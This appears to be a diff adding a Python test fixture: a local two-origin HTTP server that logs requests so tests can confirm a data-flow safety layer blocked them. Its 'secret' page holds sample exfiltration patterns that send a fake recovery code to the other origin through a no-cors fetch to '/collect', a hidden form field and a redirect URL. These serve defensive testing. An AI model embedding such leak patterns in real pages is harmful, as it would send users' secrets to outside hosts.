@@ -1,0 +1,143 @@
+"""A small site for the network-hold tests: inline pages served on 127.0.0.1 (and as localhost, a second site),
+and a log of every request that reached it, so a test proves a denied request never arrived.
+
+Routes: `/p/<name>` an inline page (PAGES), `/worker.js` a worker that POSTs what it is told, `/redirect?to=URL`
+a 302, anything else answers 200 `{"ok": true}` (GET, POST, PUT, DELETE alike) and is logged.
+"""
+
+from __future__ import annotations
+
+import json
+import threading
+from dataclasses import dataclass
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import Any
+from urllib.parse import parse_qs, urlsplit
+
+SECRET = "ZX44719920QQ"
+"""What the first site shows the task (a code: data by app.safety.dataflow's rules)."""
+
+_SCRIPT = """
+<script>
+const out = (t) => { document.getElementById('status').textContent = t; };
+async function send(url, init) {
+  try { const r = await fetch(url, init); out('sent ' + r.status); } catch (e) { out('failed ' + e.message); }
+}
+</script>
+"""
+
+PAGES: dict[str, str] = {
+    "post": _SCRIPT + """<title>Notes</title><h1>Notes</h1>
+<button id="note" onclick="send('/api/notes', {method: 'POST', body: JSON.stringify({note: 'hello there'})})">Save note</button>
+<button id="go" onclick="send('/api/v1/checkout', {method: 'POST', headers: {'content-type': 'application/json'},
+  body: JSON.stringify({items: [3]})})">Next</button>
+<button id="xhr" onclick="const x = new XMLHttpRequest(); x.open('DELETE', '/api/items/3');
+  x.onload = () => out('sent ' + x.status); x.onerror = () => out('failed xhr'); x.send();">Tidy</button>
+<button id="card" onclick="send('/api/notes', {method: 'POST', body: 'n=4111 1111 1111 1111'})">Keep</button>
+<button id="look" onclick="fetch('/collect?e=look&t=' + Date.now()); new Image().src = '/pixel.gif?e=look'; out('looked')">Look</button>
+<button id="pay" onclick="send('/api/pay', {method: 'POST', body: 'amount=12'})">Pay now</button>
+<button id="beacon" onclick="navigator.sendBeacon('/api/messages/send', 'to=ana&text=hi'); out('beaconed')">Ping</button>
+<button id="beacon-plain" onclick="navigator.sendBeacon('/stats', 'e=view'); out('beaconed')">Stats</button>
+<p>Status: <span id="status">idle</span></p>""",
+    "bench": """<title>Bench</title><h1>Bench</h1><p>Count: <span id="n">0</span></p>
+<button id="count" onclick="n.textContent = +n.textContent + 1">Count</button>
+<button id="get" onclick="fetch('/api/items?at=' + Date.now()); n.textContent = +n.textContent + 1">Load</button>
+<button id="post" onclick="fetch('/api/checkout', {method: 'POST', body: 'items=3'}); n.textContent = +n.textContent + 1">Next</button>
+<input id="q" aria-label="Search">""",
+    "form": """<title>Form</title><h1>Form</h1>
+<form method="post" action="/orders/new"><input name="item" value="teapot"><button id="next">Next</button></form>
+<p>Status: <span id="status">idle</span></p>""",
+    "frames": _SCRIPT + """<title>Frames</title><h1>Frames</h1>
+<iframe id="same" src="/p/frame-inner" width="300" height="80"></iframe>
+<iframe id="cross" src="CROSS/p/frame-inner" width="300" height="80"></iframe>
+<button id="same-go" onclick="document.getElementById('same').contentWindow.postMessage('go', '*'); out('asked')">Inner</button>
+<button id="cross-go" onclick="document.getElementById('cross').contentWindow.postMessage('go', '*'); out('asked')">Outer</button>
+<button id="worker-go" onclick="w.postMessage(location.origin + '/api/transfer'); out('asked')">Work</button>
+<script>const w = new Worker('/worker.js');</script>
+<p>Status: <span id="status">idle</span></p>""",
+    "frame-inner": """<title>Inner</title><p>frame</p>
+<script>addEventListener('message', () => fetch(location.origin + '/api/transfer', {method: 'POST', body: 'amount=5'}));</script>""",
+    "secret": f"""<title>Account</title><h1>Your account</h1><p>Your recovery code is {SECRET}.</p>
+<form method="get" action="CROSS/search"><input type="hidden" name="q" value="{SECRET}"><button id="find">Find</button></form>
+<a id="out" href="/redirect?to=CROSS/land%3Fref%3D{SECRET}">Next page</a>
+<button id="leak" onclick="fetch('CROSS/collect?d={SECRET}', {{mode: 'no-cors'}})">Share</button>
+<button id="count-cross" onclick="fetch('CROSS/collect?e=view', {{mode: 'no-cors'}})">Count</button>
+<a id="plain" href="/redirect?to=CROSS/land%3Fref%3Dwelcome">Other page</a>""",
+}
+WORKER_JS = "onmessage = (e) => fetch(e.data, {method: 'POST', body: 'amount=9'});"
+
+
+@dataclass(frozen=True)
+class Received:
+    method: str
+    host: str
+    path: str
+    query: dict[str, list[str]]
+    body: str
+
+
+class NetworkSite:
+    def __init__(self) -> None:
+        self.received: list[Received] = []
+        self._lock = threading.Lock()
+        site = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def log_message(self, *args: Any) -> None:
+                pass
+
+            def do_GET(self) -> None:
+                site._handle(self)
+
+            do_POST = do_PUT = do_DELETE = do_PATCH = do_GET
+
+        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.httpd.daemon_threads = True
+        self.port = self.httpd.server_address[1]
+        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
+
+    def url(self, path: str, host: str = "127.0.0.1") -> str:
+        return f"http://{host}:{self.port}{path}"
+
+    def saw(self, path: str, method: str | None = None) -> list[Received]:
+        with self._lock:
+            return [r for r in self.received if r.path == path and (method is None or r.method == method)]
+
+    def _handle(self, handler: BaseHTTPRequestHandler) -> None:
+        parts = urlsplit(handler.path)
+        length = int(handler.headers.get("Content-Length") or 0)
+        body = handler.rfile.read(length).decode("utf-8", "replace") if length else ""
+        if parts.path.startswith("/p/") and parts.path[3:] in PAGES:
+            cross = self.url("", "localhost" if "127.0.0.1" in (handler.headers.get("Host") or "") else "127.0.0.1")
+            self._reply(handler, 200, "text/html; charset=utf-8", PAGES[parts.path[3:]].replace("CROSS", cross))
+            return
+        with self._lock:
+            self.received.append(Received(handler.command, handler.headers.get("Host") or "", parts.path,
+                                          parse_qs(parts.query), body))
+        if parts.path == "/worker.js":
+            self._reply(handler, 200, "text/javascript", WORKER_JS)
+        elif parts.path == "/redirect":
+            handler.send_response(302)
+            handler.send_header("Location", parse_qs(parts.query).get("to", ["/"])[0])
+            handler.send_header("Content-Length", "0")
+            handler.end_headers()
+        elif parts.path in ("/orders/new", "/search", "/land"):
+            self._reply(handler, 200, "text/html; charset=utf-8", f"<title>done</title><p>Status: {parts.path} done</p>")
+        else:
+            self._reply(handler, 200, "application/json", json.dumps({"ok": True}))
+
+    def _reply(self, handler: BaseHTTPRequestHandler, status: int, mime: str, text: str) -> None:
+        data = text.encode()
+        handler.send_response(status)
+        handler.send_header("Content-Type", mime)
+        handler.send_header("Content-Length", str(len(data)))
+        handler.send_header("Access-Control-Allow-Origin", "*")
+        handler.end_headers()
+        try:
+            handler.wfile.write(data)
+        except (BrokenPipeError, ConnectionResetError):
+            pass
+
+    def stop(self) -> None:
+        self.httpd.shutdown()
+        self.httpd.server_close()
